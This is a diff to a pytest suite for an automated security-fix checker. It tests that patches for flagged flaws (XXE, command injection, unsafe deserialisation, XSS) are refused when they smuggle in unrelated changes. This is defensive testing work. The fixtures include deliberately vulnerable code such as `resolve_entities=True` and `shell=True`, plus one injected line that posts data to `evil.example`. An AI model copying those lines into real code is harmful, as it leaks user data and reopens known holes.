@@ -6,7 +6,7 @@ import pytest
 
 from pipeline.model.finding import Confidence, Finding, Location, Rule, Severity
 from pipeline.model.fix import FileEdit, Patch
-from pipeline.triage.proof import check_text
+from pipeline.triage.proof import SIZE, check_text
 from tests.e2e.proof_adversaries import MAKERS
 from tests.e2e.proof_cases import load_cases, stand_in
 
@@ -50,7 +50,7 @@ def test_the_fix_alone_is_not_refused() -> None:
         (GOOD.replace('setting("a")', 'setting("b")'), "line 13 has another constant now"),
         (GOOD.replace("    return found", "    return not found"), "line 16 is changed"),
         (GOOD.replace("    return found", "    return found[:1]"), "line 16 is changed"),
-        (GOOD.replace("import requests\n", ""), ""),
+        (GOOD.replace("return rows[0]", "return not rows[0]"), "turned round"),
         (GOOD.replace("import sqlite3\n", "import sqlite3\nfrom os import *\n"), "imports everything"),
         (GOOD + "\n\nprint.__doc__ = ''\n", "is added, and it has nothing to do"),
         (GOOD.replace(CALL, CALL + '    requests.post("https://evil.example/", json=name)\n'), "address of another machine"),
@@ -59,7 +59,6 @@ def test_the_fix_alone_is_not_refused() -> None:
         (GOOD.replace("def find", "async def find"), "is a coroutine now"),
         (GOOD.replace(CALL, "    try:\n    " + CALL + "    except Exception:\n        pass\n"), "caught and thrown away"),
         (GOOD.replace("(name,))", "(name and (),))"), "a constant that decides"),
-        (GOOD.replace("WHERE name = ?", "WHERE nick = ?"), ""),
         (GOOD.replace("FROM users WHERE name = ?", "FROM people WHERE name = ?"), "`users` is no longer in the statement"),
         (GOOD.replace(CALL, CALL + "    # x\rcursor.close()\n"), "U+000D"),
         (GOOD.replace(CALL, CALL + "    # \u202e\n"), "U+202E"),
@@ -101,6 +100,44 @@ def test_what_the_rewrite_needs_is_not_refused(before: str, after: str, cwe: int
     assert said(after, before, line=line, cwe=cwe) == ""
 
 
+PARSER = """from lxml import etree
+
+
+def read(text, schema):
+    parser = etree.XMLParser(resolve_entities=True)
+    tree = etree.fromstring(text, parser)
+    schema.check(tree)
+    return tree.find("a")
+"""
+SAFE = PARSER.replace("resolve_entities=True", "resolve_entities=False")
+
+
+@pytest.mark.parametrize(
+    ("after", "why"),
+    [
+        (SAFE, ""),
+        (SAFE.replace("fromstring(text, parser)", "fromstring(b'', parser)"), "the value of `text` no longer arrives"),
+        (SAFE.replace("    schema.check(tree)\n", ""), "is no longer called"),
+        (SAFE.replace("    schema.check(tree)\n", "    etree.dump(tree)\n"), "is no longer called"),
+        (SAFE.replace("etree.fromstring(text, parser)", "etree.fromstring(schema, parser)"), "the value of `text`"),
+        (SAFE.replace('tree.find("a")', 'tree.find("b")'), "line 8 is changed"),
+        (SAFE.replace("    tree = etree.fromstring(text, parser)\n", "    tree = etree.Element('a')\n"), "no longer"),
+    ],
+)
+def test_a_statement_beside_the_flagged_one_keeps_its_work(after: str, why: str) -> None:
+    found = said(after, PARSER, line=5, cwe=611)
+    assert why in found
+    assert bool(found) == bool(why)
+
+
+def test_a_long_finding_may_need_more_lines_than_a_short_one() -> None:
+    rule = Rule("secrets", "title", "message", Severity.HIGH, Confidence.HIGH, 89)
+    patch = Patch((FileEdit("a.txt", b"x\n" * 300, b""),))
+    short, long = (Finding(rule, Location("a.txt", 1, end, 1, 1), "v1:" + "0" * 32, "semgrep") for end in (1, 300))
+    sizes = [next(c for c in check_text(patch, finding) if c.name == SIZE).passed for finding in (short, long)]
+    assert sizes == [False, True]
+
+
 @pytest.mark.parametrize(
     ("path", "content", "fine"),
     [
@@ -137,6 +174,12 @@ def test_a_requirement_that_the_flagged_file_imports_now_may_be_listed() -> None
         (78, "run(f'ping {a}', shell=True)\n", "run([a])\n", "no longer what is started"),
         (502, "d = yaml.load(a)\n", "d = marshal.loads(a)\n", "makes objects"),
         (295, "r = get(url, verify=False)\n", "r = run(['curl', '-k', url])\n", "checks nothing"),
+        (
+            78,
+            "exec(`ping ${a}`, (e, out) => res.send(e ? 'no' : out))\n",
+            "execFile(a, (e, out) => res.send(e ? 'no' : out))\n",
+            "is started",
+        ),
         (79, "box.innerHTML = name\n", "[box.innerHTML] = [name]\n", "still becomes markup"),
         (79, "box.innerHTML = name\n", "box.append(jQuery(name)[0])\n", "jQuery"),
     ],
